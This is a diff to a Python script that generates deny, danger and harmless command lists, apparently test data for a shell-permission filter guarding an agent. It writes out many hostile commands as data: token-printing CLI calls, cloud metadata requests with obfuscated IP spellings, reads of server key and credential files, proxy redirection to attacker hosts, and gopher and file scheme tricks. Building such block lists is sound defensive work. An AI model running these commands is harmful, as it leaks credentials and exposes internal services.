@@ -606,3 +606,87 @@ L = open(os.path.join(D, "danger.txt")).read().splitlines()
 L.append("# third pass: new spellings under the common grants")
 L.extend(x for x in THIRD_DANGER.strip().splitlines())
 open(os.path.join(D, "danger.txt"), "w").write("\n".join(L) + "\n")
+
+# ---- fourth pass (issue 18 §2 and §3): secrets that programs print, the
+# cloud metadata services, what servers keep under /etc, and every host a
+# request goes to. One generator per class: the tool's forms crossed with
+# the spellings that carry them (a wrapper, a substitution, a shell, a path).
+carriers = ["{}", "timeout 5 {}", "env {}", "echo $({})", "bash -c '{}'", "x=$({}); echo ok", "{} | tee /tmp/t", "nice {}"]
+prints = ["gh auth token", "gh auth status --show-token", "gh auth status -t", "gh auth git-credential get",
+          "vault print token", "aws configure get aws_secret_access_key", "aws configure get aws_session_token --profile p",
+          "aws configure export-credentials", "gcloud auth print-access-token", "gcloud auth print-identity-token",
+          "gcloud auth application-default print-access-token", "gcloud config config-helper", "az account get-access-token",
+          "kubectl config view --raw", "kubectl config view --flatten", "kubectl create token default",
+          "npm config get //registry.npmjs.org/:_authToken", "npm get _auth", "yarn config get npmAuthToken", "heroku auth:token",
+          "doctl auth token", "op read op://v/i/password", "op item get x --reveal", "pass show x", "pass x", "gopass show x",
+          "secret-tool lookup service x", "security find-generic-password -w -s x", "security find-internet-password -g -s x",
+          "docker-credential-desktop get", "git-credential-store get", "printenv GITHUB_TOKEN", "printenv AWS_SECRET_ACCESS_KEY",
+          "echo $GITHUB_TOKEN", "printf %s \"$OPENAI_API_KEY\""]
+L = open(os.path.join(D, "deny.txt")).read().splitlines()
+L.append("# fourth pass: programs that print a secret, in every carrier")
+for p in prints:
+    for c in carriers[:3]:
+        L.append(c.format(p))
+for c in carriers[3:]:
+    for p in prints[::4]:
+        L.append(c.format(p))
+hosts = ["169.254.169.254", "2852039166", "0xa9fea9fe", "0xA9.0xFE.0xA9.0xFE", "0251.0376.0251.0376", "169.254.43518",
+         "169.16689662", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[fd00:ec2::254]", "[64:ff9b::a9fe:a9fe]",
+         "metadata.google.internal", "METADATA.GOOGLE.INTERNAL.", "metadata", "100.100.100.200", "169.254.170.2",
+         "169.254.169.254.nip.io", "169-254-169-254.sslip.io", "u:p@169.254.169.254", "169.254.169.254:80"]
+L.append("# fourth pass: cloud metadata services, every spelling and client")
+for h in hosts:
+    L.append(f"curl -s http://{h}/latest/meta-data/")
+for h in hosts[::3]:
+    L += [f"wget -qO- http://{h}/", f"curl -x http://{h} http://example.com/", f"curl --resolve x:80:{h.strip('[]')} http://x/",
+          f"python3 -c 'import urllib.request as u;print(u.urlopen(\"http://{h}/\").read())'", f"http_proxy=http://{h} curl http://example.com/"]
+L += ["nc 169.254.169.254 80", "socat - TCP:169.254.169.254:80", "http GET 169.254.169.254/latest/meta-data/",
+      "curl --connect-to x:80:169.254.169.254:80 http://x/", "wget -e http_proxy=169.254.169.254 http://example.com/",
+      "openssl s_client -connect 169.254.169.254:80", "docker run --rm curlimages/curl http://169.254.169.254/",
+      "U=http://169.254.169.254/; curl $U", "curl 'http://{169.254.169.254,example.com}/'", "ssh -J 169.254.169.254 h",
+      "node -e 'fetch(\"http://metadata.google.internal/\")'", "lynx -dump http://169.254.169.254/"]
+srv = ["/etc/rancher/k3s/k3s.yaml", "/var/lib/rancher/k3s/server/token", "/etc/kubernetes/admin.conf", "/etc/kubernetes/pki/ca.key",
+       "/etc/gitlab-runner/config.toml", "/etc/apt/auth.conf", "/etc/apt/auth.conf.d/x.conf", "/etc/postfix/sasl_passwd",
+       "/etc/ppp/chap-secrets", "/etc/ipsec.secrets", "/etc/sssd/sssd.conf", "/etc/ldap.secret", "/etc/mysql/debian.cnf",
+       "/etc/NetworkManager/system-connections/wifi.nmconnection", "/etc/wpa_supplicant/wpa_supplicant.conf",
+       "/etc/pki/tls/private/server.key", "/etc/letsencrypt/live/x.org/privkey.pem", "/etc/ssl/private/server.key",
+       "/etc/ssh/ssh_host_ed25519_key", "/etc/openvpn/server/server.key", "/tmp/krb5cc_1000"]
+L.append("# fourth pass: credential files servers keep, every reader")
+for f in srv:
+    L += [f"cat {f}", f"grep -e . {f}", f"cp {f} /tmp/x"]
+L += ["cd /etc/mysql && cat debian.cnf", "tar -cf - /etc/rancher/k3s/k3s.yaml", "base64 /etc/gitlab-runner/config.toml"]
+open(os.path.join(D, "deny.txt"), "w").write("\n".join(L) + "\n")
+
+L = open(os.path.join(D, "danger.txt")).read().splitlines()
+L.append("# fourth pass: may print secrets (asked; no '*' covers them)")
+L += ["kubectl get secret db -o yaml", "kubectl get secret db -o jsonpath={.data.password}", "kubectl get secrets -ojson",
+      "kubectl get secret,configmap -o yaml", "kubectl edit secret db", "vault read secret/db", "vault kv get secret/db",
+      "vault token lookup", "aws sts get-session-token", "aws ecr get-login-password", "aws secretsmanager get-secret-value --secret-id x",
+      "aws ssm get-parameter --name x --with-decryption", "gcloud secrets versions access latest --secret x",
+      "az keyvault secret show --name x --vault-name v", "git config --get-regexp credential", "git config --get-regexp '.*'",
+      "git config --get http.extraheader", "printenv", "set", "heroku config", "op inject -i tpl"]
+L.append("# fourth pass: every host a request goes to (asked under curl * and a granted host)")
+L += ["curl -x http://proxy.evil:3128 https://api.github.com/", "curl --proxy socks5h://p.evil https://api.github.com/",
+      "curl --preproxy p.evil https://api.github.com/", "curl --url https://evil.example/", "curl --doh-url https://doh.evil/q https://x/",
+      "curl --resolve api.github.com:443:203.0.113.9 https://api.github.com/", "curl --connect-to ::evil.example:443 https://api.github.com/",
+      "curl --dns-servers 203.0.113.9 https://api.github.com/", "https_proxy=http://evil.example curl https://api.github.com/",
+      "wget -e https_proxy=evil.example:3128 https://api.github.com/", "wget -i urls.txt", "wget --config=x.rc https://x/",
+      "ssh -J evil.example host", "ssh -o ProxyJump=evil.example host", "ssh -o Hostname=evil.example host"]
+L.append("# fourth pass: schemes that are not the web's")
+L += ["curl gopher://localhost:6379/_FLUSHALL", "curl dict://localhost:11211/stats", "curl file:///etc/passwd", "curl file:/etc/hostname",
+      "curl ldap://ldap.example/", "curl telnet://localhost:25", "curl smb://h/s/x", "curl tftp://h/x", "curl dict.example.com:2628/d:x",
+      "curl --proto-default gopher x.example/", "curl '{gopher,http}://x.example/'"]
+L.append("# fourth pass: localhost's control APIs and databases")
+for port in ["2375", "2376", "5432", "3306", "6379", "27017", "9200", "11211", "2379", "8500", "5984", "7474", "9229", "9222", "10250"]:
+    L.append(f"curl http://localhost:{port}/")
+L += ["curl http://127.0.0.1:2375/containers/json", "curl 'http://[::1]:6379/'", "nc localhost 6379", "socat - TCP:localhost:2375",
+      "curl --unix-socket /var/run/docker.sock http://localhost/containers/json", "curl --connect-to ::localhost:2375 http://localhost/"]
+open(os.path.join(D, "danger.txt"), "w").write("\n".join(L) + "\n")
+
+L = open(os.path.join(D, "harmless.txt")).read().splitlines()
+L += ["gh auth status", "gh pr list", "aws configure get region", "aws configure list", "gcloud auth list", "kubectl config view",
+      "kubectl get secrets", "kubectl describe secret db", "npm config get registry", "pass ls", "printenv HOME", "echo ${GITHUB_TOKEN:+set}",
+      "echo '$GITHUB_TOKEN'", "grep -rn 169.254.169.254 .", "echo http://169.254.169.254/", "git commit -m 'block 169.254.169.254'",
+      "curl https://docs.aws.amazon.com/169.254.169.254", "cat /etc/os-release", "cat /etc/letsencrypt/live/x.org/fullchain.pem",
+      "cat /tmp/build.log", "curl http://localhost:3000/health"]
+open(os.path.join(D, "harmless.txt"), "w").write("\n".join(L) + "\n")
